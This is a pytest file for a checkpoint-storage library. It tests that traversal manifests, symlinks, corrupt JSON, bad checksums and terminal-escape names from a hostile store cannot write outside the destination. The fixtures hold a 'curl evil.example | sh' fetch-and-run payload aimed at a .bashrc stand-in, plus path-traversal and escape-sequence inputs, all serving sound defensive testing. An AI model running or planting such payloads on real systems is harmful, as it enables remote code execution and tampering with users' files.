"""A hostile or damaged run store: whoever can write to it must not reach outside it.

Traversal manifests (absolute paths, ``..``, symlinks already on disk), torn and garbage JSON,
wrong checksums and names made to attack a terminal. Each case checks that nothing outside the
destination changed, that the newest complete checkpoint is still there and usable, and that
the user got one clear line (or, for objects not asked for, a warning naming them).
"""

from __future__ import annotations

import hashlib
import logging
from pathlib import Path

import lightning.pytorch as pl
import pytest
from lightning.pytorch.callbacks import ModelCheckpoint

from tests.helpers.cli import trainctl
from tests.helpers.hostile import manifest_json, plant, plant_checkpoint
from tests.helpers.models import TinyRegressor, trainer_kwargs
from trainctl_lightning.checkpoint.resume import prune_cache, resume_path
from trainctl_lightning.checkpoint.sync import CheckpointSync
from trainctl_lightning.errors import CheckpointNotFoundError, ConfigError, IntegrityError
from trainctl_lightning.jobs.spec import JobSpec
from trainctl_lightning.jobs.store import JobStore
from trainctl_lightning.metrics.read import list_runs, read_status
from trainctl_lightning.store import RunStore, layout
from trainctl_lightning.store.files import inside, safe_relpath
from trainctl_lightning.store.manifest import CheckpointManifest, FileEntry
from trainctl_lightning.timeutil import utc_now

ORIGINAL = b"export PATH=/usr/bin  # the user's own file\n"
EVIL = b"curl evil.example | sh\n"
BAD_ID = "0000000999-evil-deadbeef"


@pytest.fixture(params=["file", "s3"])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "s3":
        return str(request.getfixturevalue("s3").url())
    return f"file://{tmp_path}/store/run"


@pytest.fixture
def sentinel(tmp_path: Path) -> Path:
    """A file outside every destination (a ``.bashrc`` stand-in) that no store object may touch."""
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir(parents=True)
    path.write_bytes(ORIGINAL)
    return path


def _traversals(sentinel: Path) -> dict[str, str]:
    up = "../" * 40  # more than enough from any destination below tmp_path
    rel = str(sentinel).lstrip("/")
    return {
        "absolute": str(sentinel),
        "dotdot": up + rel,
        "inner-dotdot": "a/" + up + rel,
        "backslash": "..\\..\\" + rel.replace("/", "\\"),
        "drive": "C:/" + rel,
        "nul": "x\x00/../" + rel,
        "dot": "./x.ckpt",
        "empty-part": "a//x.ckpt",
    }


def _publish_good(url: str, tmp_path: Path) -> CheckpointManifest:
    local = tmp_path / "epoch=0-step=4.ckpt"
    local.write_bytes(b"good weights" * 100)
    return RunStore(url).publish_checkpoint([local], global_step=4, created_at="2000-01-01T00:00:00Z")


def _untouched(sentinel: Path) -> None:
    assert sentinel.read_bytes() == ORIGINAL, "a store object changed a file outside the destination"
    assert sorted(p.name for p in sentinel.parent.iterdir()) == [".bashrc"], "a store object created a file outside"


@pytest.mark.parametrize("kind", list(_traversals(Path("/x"))))
def test_a_manifest_with_an_unsafe_path_is_refused_when_parsed(kind: str, sentinel: Path) -> None:
    path = _traversals(sentinel)[kind]
    raw = manifest_json(BAD_ID, [{"path": path, "size": 1, "sha256": "0" * 64}])
    with pytest.raises(IntegrityError, match="unsafe path") as err:
        CheckpointManifest.from_json(raw, "s3://b/run/checkpoints/x/MANIFEST.json")
    assert "\n" not in str(err.value)
    with pytest.raises(IntegrityError, match="unsafe path"):
        safe_relpath(path, "a code manifest")  # the one rule both manifest kinds use


def test_an_unsafe_checkpoint_id_is_refused_when_parsed() -> None:
    raw = manifest_json("../../evil", [{"path": "x.ckpt", "size": 1, "sha256": "0" * 64}])
    with pytest.raises(IntegrityError, match="unsafe name"):
        CheckpointManifest.from_json(raw, "MANIFEST.json")


def test_resume_path_skips_traversal_manifests_and_resumes_from_the_newest_good_one(
    url: str, tmp_path: Path, sentinel: Path, caplog: pytest.LogCaptureFixture
) -> None:
    good = _publish_good(url, tmp_path)
    for i, path in enumerate(_traversals(sentinel).values()):
        plant_checkpoint(url, f"{BAD_ID}{i}", path, EVIL)
    cache = tmp_path / "cache"
    with caplog.at_level(logging.WARNING):
        got = resume_path(url, cache_dir=cache)
    assert got is not None and Path(got).read_bytes() == b"good weights" * 100
    assert Path(got).resolve().is_relative_to(cache.resolve())
    assert f"{BAD_ID}0" in caplog.text and "unsafe path" in caplog.text
    _untouched(sentinel)
    assert [m.id for m in RunStore(url).list_checkpoints()] == [good.id]


def test_a_symlink_in_the_destination_cannot_take_a_download_outside(tmp_path: Path, sentinel: Path) -> None:
    url = f"file://{tmp_path}/store/run"
    good = _publish_good(url, tmp_path)
    plant_checkpoint(url, BAD_ID, "link/.bashrc", EVIL)
    cache = tmp_path / "cache"
    run_key = hashlib.sha256(RunStore(url).url.encode()).hexdigest()[:16]
    planted = cache / "checkpoints" / run_key / BAD_ID
    planted.mkdir(parents=True)
    (planted / "link").symlink_to(sentinel.parent, target_is_directory=True)
    got = resume_path(url, cache_dir=cache)  # the newest fails (logged), the older good one is used
    assert got is not None and good.id in got
    _untouched(sentinel)
    with pytest.raises(IntegrityError, match="outside"):
        inside(planted, "link/.bashrc", "test")


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "inner-dotdot"])
def test_ckpt_download_refuses_a_traversal_manifest_in_one_line(url: str, tmp_path: Path, sentinel: Path, kind: str) -> None:
    good = _publish_good(url, tmp_path)
    plant_checkpoint(url, BAD_ID, _traversals(sentinel)[kind], EVIL)
    dest = tmp_path / "dest"
    asked = trainctl("ckpt", "download", url, BAD_ID, "-o", str(dest))
    assert asked.returncode == 1, asked.stdout + asked.stderr
    assert "Traceback" not in asked.stderr and "unsafe path" in asked.stderr
    assert len(asked.stderr.strip().splitlines()) == 1, asked.stderr
    _untouched(sentinel)
    latest = trainctl("ckpt", "download", url, "-o", str(dest))
    assert latest.returncode == 0, latest.stderr
    assert (dest / good.files[0].path).read_bytes() == b"good weights" * 100
    _untouched(sentinel)


def test_keep_last_never_deletes_outside_the_run_and_keeps_the_newest(url: str, tmp_path: Path, sentinel: Path) -> None:
    victim_rel = "../../victim.ckpt"  # from checkpoints/<id>/: the run's own folder, next to checkpoints/
    plant(url, "victim.ckpt", b"another object of the run")
    for i, path in enumerate([victim_rel, str(sentinel), "a/../../../victim.ckpt"]):
        plant_checkpoint(url, f"{BAD_ID}{i}", path, EVIL, created_at="1999-01-01T00:00:00Z")  # oldest: deleted first
    trainer = pl.Trainer(
        **trainer_kwargs(max_steps=6, limit_val_batches=0),
        callbacks=[
            ModelCheckpoint(dirpath=tmp_path / "c", every_n_train_steps=2, save_top_k=-1),
            CheckpointSync(url, keep_last=1),
        ],
    )
    trainer.fit(TinyRegressor())
    store = RunStore(url)
    assert [m.global_step for m in store.list_checkpoints()] == [6], "keep_last lost the newest checkpoint"
    store.verify_checkpoint(store.list_checkpoints()[-1])
    assert store.objects.read("victim.ckpt") == b"another object of the run"
    _untouched(sentinel)


def test_delete_checkpoint_refuses_a_path_leaving_its_folder_and_deletes_nothing(url: str, tmp_path: Path) -> None:
    good = _publish_good(url, tmp_path)
    store = RunStore(url)
    plant(url, "victim.ckpt", b"keep me")
    forged = CheckpointManifest(**{**good.__dict__, "files": (FileEntry("../../victim.ckpt", 7, "0" * 64),)})
    with pytest.raises(ConfigError, match="refusing to delete"):
        store.delete_checkpoint(forged)
    assert store.objects.read("victim.ckpt") == b"keep me"
    assert [m.id for m in store.list_checkpoints()] == [good.id]
    with pytest.raises(ConfigError, match="refusing to delete"):
        store.delete_orphan("..")


@pytest.mark.parametrize(
    "raw",
    [
        b'{"format": "trainctl.checkpoint/1", "id": "x", "na',  # torn
        b"\x00\xff garbage",
        b"[1, 2, 3]",
        b"null",
        b"[" * 100000,
        manifest_json(BAD_ID, [{"path": "x.ckpt", "size": 1, "sha256": "0" * 64}], created_at="yesterday"),
        manifest_json(BAD_ID, [{"path": "x.ckpt", "size": "1", "sha256": "0" * 64}]),
        manifest_json(BAD_ID, [{"path": "x.ckpt", "size": 1, "sha256": "not hex"}]),
        manifest_json(BAD_ID, [{"path": "x.ckpt", "size": 1, "sha256": "0" * 64}], global_step="many"),
    ],
    ids=["torn", "binary", "list", "null", "deep", "created_at", "size", "sha256", "step"],
)
def test_a_damaged_manifest_is_skipped_in_listings_and_named_when_asked_for(
    url: str, tmp_path: Path, raw: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    good = _publish_good(url, tmp_path)
    plant(url, layout.checkpoint_object(BAD_ID, layout.CHECKPOINT_MANIFEST), raw)
    with caplog.at_level(logging.WARNING):
        assert [m.id for m in RunStore(url).list_checkpoints()] == [good.id]
    assert BAD_ID in caplog.text
    assert resume_path(url, cache_dir=tmp_path / "cache") is not None
    with pytest.raises(IntegrityError, match=BAD_ID) as err:
        RunStore(url).get_checkpoint(BAD_ID)
    assert "\n" not in str(err.value)
    listed = trainctl("ckpt", "ls", url)
    assert listed.returncode == 0 and good.id in listed.stdout, listed.stderr
    asked = trainctl("ckpt", "download", url, BAD_ID, "-o", str(tmp_path / "dest"))
    assert asked.returncode == 1 and "Traceback" not in asked.stderr
    assert len(asked.stderr.strip().splitlines()) == 1 and BAD_ID in asked.stderr


def test_wrong_sha256_content_is_refused_and_resume_falls_back(url: str, tmp_path: Path, sentinel: Path) -> None:
    good = _publish_good(url, tmp_path)
    entry = {"path": "x.ckpt", "size": len(EVIL), "sha256": hashlib.sha256(b"something else entirely").hexdigest()}
    plant(url, layout.checkpoint_object(BAD_ID, "x.ckpt"), EVIL[: len(EVIL)])
    plant(url, layout.checkpoint_object(BAD_ID, layout.CHECKPOINT_MANIFEST), manifest_json(BAD_ID, [entry]))
    cache = tmp_path / "cache"
    got = resume_path(url, cache_dir=cache)
    assert got is not None and good.id in got
    assert not list(cache.rglob("x.ckpt")), "content failing its checksum was left in the cache"
    with pytest.raises(IntegrityError, match="checksum"):
        resume_path(url, cache_dir=cache, fallback=False)
    asked = trainctl("ckpt", "download", url, BAD_ID, "-o", str(tmp_path / "dest"))
    assert asked.returncode == 1 and "checksum" in asked.stderr and "Traceback" not in asked.stderr
    assert not (tmp_path / "dest" / "x.ckpt").exists()


@pytest.mark.parametrize("obj", [layout.JOB, layout.JOB_STATE, layout.STATUS])
@pytest.mark.parametrize(
    "raw",
    [b'{"phase": "runn', b"\xff\xfe", b"[]", b'{"phase": "running", "updated_at": "noon"}'],
    ids=["torn", "binary", "list", "fields"],
)
def test_damaged_job_and_status_objects_give_one_line_and_never_hide_other_runs(
    file_store: str, obj: str, raw: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    good_url, bad_url = f"{file_store}/good", f"{file_store}/bad"
    for run_url in (good_url, bad_url):
        jobs = JobStore(run_url)
        jobs.write_spec(JobSpec(run_id=run_url.rsplit("/", 1)[-1], run_url=jobs.url, created_at=utc_now(), script="t.py"))
        RunStore(run_url).write_status(
            b'{"phase": "training", "updated_at": "%s", "started_at": "%s"}' % (utc_now().encode(), utc_now().encode())
        )
    plant(bad_url, obj, raw)

    with caplog.at_level(logging.WARNING):
        runs = list_runs(file_store)
    assert sorted(r.url.rsplit("/", 1)[-1] for r in runs) == ["bad", "good"]
    listed = trainctl("runs", "ls", file_store)
    assert listed.returncode == 0 and "good" in listed.stdout and "Traceback" not in listed.stderr, listed.stderr

    status = trainctl("status", bad_url)
    if obj == layout.STATUS:  # not the object asked for: the job's state shows, the status is named
        assert status.returncode == 0, status.stderr
        assert read_status(good_url) is not None
        with pytest.raises(IntegrityError, match=layout.STATUS):
            read_status(bad_url)
    else:
        assert status.returncode == 1, status.stdout
        assert "Traceback" not in status.stderr and obj in status.stderr
        assert len(status.stderr.strip().splitlines()) == 1, status.stderr
    assert trainctl("status", good_url).returncode == 0


@pytest.mark.parametrize("name", ["\x1b[31mred\x1b[0m.ckpt", "[/bold]x.ckpt", "[link=file:///etc]y[/link].ckpt", "a\rb\x07.ckpt"])
def test_names_from_the_store_are_escaped_in_ckpt_ls(url: str, tmp_path: Path, name: str) -> None:
    local = tmp_path / "w.ckpt"
    local.write_bytes(b"w")
    RunStore(url).publish_checkpoint([local], name=name, global_step=1)
    listed = trainctl("ckpt", "ls", url)
    assert listed.returncode == 0 and "Traceback" not in listed.stderr, listed.stderr
    assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout and "\r" not in listed.stdout
    if name.startswith("["):
        assert "[/" in listed.stdout, listed.stdout  # shown as itself, not taken as markup
    else:
        assert "\\x1b" in listed.stdout or "\\r" in listed.stdout


def test_the_resume_cache_keeps_the_newest_few(tmp_path: Path) -> None:
    url = f"file://{tmp_path}/store/run"
    store = RunStore(url)
    cache = tmp_path / "cache"
    for step in range(1, 6):
        local = tmp_path / f"s{step}.ckpt"
        local.write_bytes(b"w%d" % step)
        store.publish_checkpoint([local], global_step=step)
        assert resume_path(url, cache_dir=cache, cache_keep=2) is not None
    run_dir = next((cache / "checkpoints").iterdir())
    for folder in (cache, cache / "checkpoints", run_dir):  # the user's checkpoints: private
        assert folder.stat().st_mode & 0o777 == 0o700, folder
    kept = sorted(p.name for p in run_dir.iterdir())
    assert len(kept) == 2 and kept[-1] == store.latest_checkpoint().id  # type: ignore[union-attr]
    assert prune_cache(run_dir, keep=1, protect=kept[0]) == [kept[1]]
    with pytest.raises(ConfigError, match="cache_keep"):
        resume_path(url, cache_dir=cache, cache_keep=0)


def test_asking_for_a_missing_checkpoint_still_lists_the_names(url: str, tmp_path: Path) -> None:
    _publish_good(url, tmp_path)
    with pytest.raises(CheckpointNotFoundError, match="epoch=0-step=4.ckpt"):
        RunStore(url).get_checkpoint("nope")
